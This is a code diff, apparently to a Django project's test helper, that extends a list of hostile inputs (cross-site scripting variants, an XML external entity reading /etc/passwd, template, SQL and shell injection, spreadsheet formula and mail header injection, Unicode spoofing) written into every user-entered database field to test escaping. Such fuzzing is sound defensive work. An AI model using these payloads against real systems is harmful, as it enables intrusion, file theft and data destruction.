@@ -37,7 +37,60 @@ PAYLOADS = [
     "<iframe srcdoc='<script pwned>'></iframe><form action=//pwned.example><input name=pwned>",
     "-1;@SUM(A1);\x0b\x0c\x01\x1b[31m",
     "`<b pwned>`\n\n    <b pwned>\n\n<b pwned>\n> <b pwned>\n\n| a |\n|---|\n| <b pwned> |",
+    # Markup that browsers repair
+    "<scr<script>ipt>pwned</scr</script>ipt><ScRiPt\t/src=//pwned.example>",
+    "</title></textarea></style></noscript></template><pwned>",
+    "<noscript><p title='</noscript><img pwned src=x onerror=alert(1)>'></noscript>",
+    "<style>@import'//pwned.example';x{background:url(//pwned.example)}</style><link pwned rel=stylesheet href=//x>",
+    "<meta pwned http-equiv=refresh content='0;url=//pwned.example'>",
+    "<object pwned data=//pwned.example></object><embed src=//pwned.example>",
+    "<video pwned><source onerror=alert(1)></video><audio src=x onerror=pwned>",
+    "<details open ontoggle=alert(1) pwned><summary>x</summary></details>",
+    "<svg><animate pwned href=#x attributeName=href values=javascript:pwned></animate></svg>",
+    "<svg><use pwned href='data:image/svg+xml,<svg id=x>#x'></use><foreignObject><pwned></foreignObject></svg>",
+    "<math href=javascript:alert(1) pwned><maction actiontype=statusline xlink:href=javascript:pwned>x</math>",
+    "<img pwned srcset='//pwned.example/x 1x' src=\"x\"style=animation-name:x onanimationstart=alert(1)>",
+    # Data blocks, feeds and other XML
+    "<!--<script>",
+    '"}]}</script><pwned>{"@type":"pwned"',
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><pwned>&y;&lol9;</pwned>",
+    "\ufffe\uffff\U0001fffe\ue000\U000e0041\U000e007f",
+    # Schemes in Markdown, encoded
+    "[e](javascript&colon;alert(1)) [f](\x01javascript:alert(1)) [g](java\nscript:alert(1)) [h](JAVASCRIPT&#58;1)",
+    "[i][j] ![k][j]\n\n[j]: javascript:alert(1) 'x'",
+    '![l](x.png "onerror=alert(1) pwned") ![m](data:image/svg+xml;base64,PHN2Zz4=)',
+    "[n](<javascript:alert(1)>) [o](%6aavascript:alert(1)) [p](feed:javascript:alert(1)) <data:text/html,pwned>",
+    "<x:y\"onmouseover=alert(1)pwned='> [q](\"onmouseover=alert(1)pwned=')",
+    "|r|\n|:-|\n|[s](javascript:alert(1))|<pwned>|",
+    # Other ways to write what is meant
+    "%3Cscript%3Epwned%3C/script%3E \\x3cpwned\\x3e \\u003cpwned\\u003e &amp;lt;pwned&amp;gt;",
+    "+ADw-script+AD4-pwned+ADw-/script+AD4-",
+    "\x1b$B<pwned>\x1b(B\x9bpwned\x7f\x80\x02\x08\x1f",
+    # Templates
+    "{{constructor.constructor('pwned')()}} <%= 1337*1337 %> #{1337*1337} ${1337*1337} {{1337*1337}} {1337*1337}",
+    "%s %d %n %(x)s %(event)s %% {} {event} {0.__class__.__init__.__globals__} {name!r:>999999999}",
+    "{% load static %}{% include 'admin/base.html' %}{{ request.user }}{# pwned #}{% endblock %}{% verbatim %}",
+    '#let x = read("/etc/passwd"); #link("//pwned.example")[x] $x$ @pwned <pwned> \\input{/etc/passwd}',
+    "$(reboot)`reboot`; DROP TABLE events_event;--' OR '1'='1 \\",
+    # Formulas
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("//pwned.example","x")',
+    "\u00a0=1+1",
+    "\uff0d1+1",
+    "\r\n-1+1",
+    # Mail and calendar
+    "To: spy@pwned.example\nSubject: pwned\n\n<pwned>",
+    "=?utf-8?q?Bcc=3A_spy=40pwned.example=0D=0A?= =?utf-8?b?DQpCY2M6IHNweUBwd25lZC5leGFtcGxl?=",
+    "BEGIN:VALARM\\nACTION:AUDIO\\nATTACH;VALUE=URI:https://pwned.example\\nEND:VALARM",
+    "pwned\x85ATTENDEE:mailto:spy@pwned.example\x1dURL:javascript:1\x0cX",
+    # What looks like something else, or like nothing
+    "\u202e\u2067drow\u2069\u202c \u061c\u200e\u200b\u200c\u200d\ufeff\u00ad\u2060",
+    "\u0430dmin@\u0435\u0445\u0430mple.org \u2170\u2171 \ufb01 \uff53\uff43\uff52 \ufe64pwned\ufe65 \u2039pwned\u203a",
+    "Z" + "\u0334\u0335\u0336" * 40,
+    "W" * 300,
+    "[" * 60 + "(" * 60 + ">" * 60 + "*" * 60 + "`" * 61,
 ]
+STARTS = range(0, len(PAYLOADS), 23)  # with which payload the first field begins
 HARMLESS = [f"Wort {number}" for number in range(500)]
 # What participants type may not even become a link of a mail program, so theirs can be told from organisers'.
 LINKS = ["Gewinn: https://evil.example/?a=b", "www.evil.example x@evil.example [hier](https://evil.example) \u202eevil"]
@@ -82,10 +135,15 @@ def spoil(model, numbers, payloads):
         row.save()
 
 
-def fill_everything(start=0, payloads=PAYLOADS):
-    """Everything in the database that somebody typed is hostile from here on; or harmless, with other payloads."""
+def fill_everything(start=0, payloads=PAYLOADS, only=None):
+    """Everything in the database that somebody typed is hostile from here on; or harmless, with other payloads.
+
+    ``only`` names models that are enough.
+    """
     numbers = count(start)
     for model in apps.get_models():
+        if only and model.__name__ not in only:
+            continue
         is_ours = model._meta.app_label in APPS and not model._meta.proxy
         if is_ours and model is not SearchWord and model.__name__ not in KEPT:
             spoil(model, numbers, payloads)
